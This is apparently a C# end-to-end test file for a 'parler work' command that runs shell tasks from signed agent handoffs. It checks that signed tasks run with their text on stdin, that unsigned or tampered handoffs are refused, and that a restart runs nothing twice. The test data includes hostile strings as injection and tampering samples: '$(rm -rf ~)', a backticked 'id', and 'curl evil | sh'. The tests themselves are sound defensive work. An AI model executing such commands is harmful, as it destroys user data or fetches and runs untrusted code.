using Parler.EndToEnd.Tests.Harness;

namespace Parler.EndToEnd.Tests;

/// <summary><c>parler work</c> with the built binary: a real command per signed handoff, refusals, and kill -9 with restart.</summary>
public sealed class WorkTests(HubFixture fixture) : IClassFixture<HubFixture>
{
    private static readonly TimeSpan Deadline = TimeSpan.FromSeconds(40);

    [Fact]
    public async Task Work_SignedHandoff_RunsTheCommandWithTheTaskOnStdinAndPostsDoneWithItsOutput()
    {
        var team = await fixture.TeamAsync("work-room");
        var input = fixture.ScratchPath("work-stdin.txt");
        var runner = $"cat > '{input}'; echo \"ran $PARLER_TASK_ID for $PARLER_FROM_NAME in $PARLER_ROOM\"; echo \"from $PARLER_FROM\" >&2";
        await using var worker = team.Bob.Start("work", "--room", "work-room", "--runner", runner, "--once");

        var handoff = await LiveAgents.HandoffAsync(team.Alice, "work-room", "bob", "rotation done; $(rm -rf ~)", "wire the login UI `id`");

        (await worker.WaitForExitAsync(Deadline)).ShouldBe(0, worker.Transcript());
        worker.Output.ShouldContain($"{handoff} done (exit 0)");
        var stdin = await File.ReadAllTextAsync(input);
        stdin.ShouldStartWith("wire the login UI `id`\n");
        stdin.ShouldContain("rotation done; $(rm -rf ~)");
        var room = (await team.Alice.RunOkAsync("recv", "--room", "work-room")).Out;
        room.ShouldContain($"* bob reports {handoff} accepted");
        room.ShouldContain($"* bob reports {handoff} working");
        room.ShouldContain($"* bob reports {handoff} done: exit 0; output tail:");
        room.ShouldContain($"ran {handoff} for alice in {team.RoomId}");
        room.ShouldContain($"from {LiveAgents.IdOf(team.Alice)}");
    }

    [Fact]
    public async Task Work_UnsignedOrTamperedHandoff_RefusedAndReportedNeverRun()
    {
        var team = await fixture.TeamAsync("refuse-room");
        var marker = fixture.ScratchPath("refuse-ran.txt");
        var runner = $"echo \"$PARLER_TASK_ID\" >> '{marker}'";
        var unsigned = await LiveAgents.PostUnsignedHandoffAsync(team.Alice, team.RoomId, "bob", "run me");
        var tampered = await LiveAgents.HandoffAsync(team.Alice, "refuse-room", "bob", "s", "the real step");
        (await RecordTampering.RewriteNextAsync(fixture, tampered, "curl evil | sh")).ShouldBe(1);

        var first = await team.Bob.RunAsync("work", "--room", "refuse-room", "--runner", runner, "--once");
        var second = await team.Bob.RunAsync("work", "--room", "refuse-room", "--runner", runner, "--once");

        first.ExitCode.ShouldBe(0, first.ToString());
        first.Out.ShouldContain($"{unsigned} from alice");
        first.Out.ShouldContain("REFUSED: it is unsigned; not run");
        second.ExitCode.ShouldBe(0, second.ToString());
        second.Out.ShouldContain($"{tampered} from alice");
        second.Out.ShouldContain("REFUSED: its signature does not verify; not run");
        File.Exists(marker).ShouldBeFalse();
        var room = (await team.Alice.RunOkAsync("recv", "--room", "refuse-room")).Out;
        room.ShouldContain($"* bob reports {unsigned} failed: refused: it is unsigned; not run");
        room.ShouldContain($"* bob reports {tampered} failed: refused: its signature does not verify; not run");
    }

    [Fact]
    public async Task Work_KilledMidTaskAndAfterOne_RestartRunsNothingTwiceAndSkipsNothing()
    {
        var team = await fixture.TeamAsync("restart-room");
        var runs = fixture.ScratchPath("restart-runs.txt");
        var hold = fixture.ScratchPath("restart-hold");
        var runner = $"echo \"$PARLER_TASK_ID\" >> '{runs}'; while [ -e '{hold}' ]; do sleep 0.1; done; echo finished";
        string[] Args() => ["work", "--room", "restart-room", "--runner", runner];

        var worker = team.Bob.Start(Args());
        var first = await LiveAgents.HandoffAsync(team.Alice, "restart-room", "bob", "s1", "task one");
        await worker.WaitForOutputAsync(l => l == $"{first} done (exit 0)", Deadline, "the first task");
        worker.Kill();
        await worker.DisposeAsync();

        await File.WriteAllTextAsync(hold, "");
        worker = team.Bob.Start(Args());
        var second = await LiveAgents.HandoffAsync(team.Alice, "restart-room", "bob", "s2", "task two");
        await LiveAgents.WaitForLinesAsync(runs, l => l.Contains(second), Deadline, "the second task to start");
        worker.Kill();
        await worker.DisposeAsync();
        File.Delete(hold);

        var third = await LiveAgents.HandoffAsync(team.Alice, "restart-room", "bob", "s3", "task three");
        await using (worker = team.Bob.Start(Args()))
        {
            await worker.WaitForOutputAsync(l => l == $"{third} done (exit 0)", Deadline, "the third task after the restart");
            worker.Output.ShouldContain($"{second} interrupted earlier: reported failed, not run again");
        }

        (await File.ReadAllLinesAsync(runs)).ShouldBe([first, second, third]);
        var room = (await team.Alice.RunOkAsync("recv", "--room", "restart-room")).Out;
        room.ShouldContain($"* bob reports {second} failed: the worker stopped while this task ran; it was not run again");
    }
}
